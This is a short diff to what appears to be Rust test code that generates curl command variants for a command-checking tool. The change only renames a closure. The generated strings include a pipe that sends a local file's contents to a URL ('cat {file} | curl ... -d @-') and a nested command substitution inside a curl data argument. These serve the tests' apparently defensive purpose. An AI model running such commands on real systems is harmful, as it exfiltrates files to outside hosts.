@@ -50,11 +50,11 @@ fn commands(file: &str, made: &str, visited: &str) -> Vec<String> {
         "-d \"$(curl VISITED)\"",
         "--unix-socket FILE",
     ];
-    let fill = |option: &str| {
+    let whole = |option: &str| {
         let option = option.replace("FILE", file).replace("MADE", made).replace("VISITED", visited);
         format!("curl {visited} {option}")
     };
-    options.into_iter().map(fill).chain([format!("cat {file} | curl {visited} -d @-")]).collect()
+    options.into_iter().map(whole).chain([format!("cat {file} | curl {visited} -d @-")]).collect()
 }
 
 #[tokio::test]
